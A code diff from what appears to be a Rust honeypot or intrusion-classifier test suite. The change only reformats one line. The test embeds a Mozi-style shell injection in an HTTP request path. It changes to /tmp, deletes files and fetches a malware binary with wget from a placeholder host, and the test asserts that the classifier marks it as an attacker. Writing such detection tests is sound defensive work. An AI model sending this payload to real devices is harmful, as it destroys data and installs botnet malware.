@@ -73,7 +73,8 @@ mod tests {
     #[test]
     fn exploit_payloads_are_attackers() {
         let rules = RuleSet::builtin();
-        let req = HttpRequest::new("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://x/mozi.m").to_bytes();
+        let req =
+            HttpRequest::new("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://x/mozi.m").to_bytes();
         assert_eq!(
             classify_intent(&ConnectionIntent::Payload(req.into()), 80, &rules),
             Verdict::Attacker
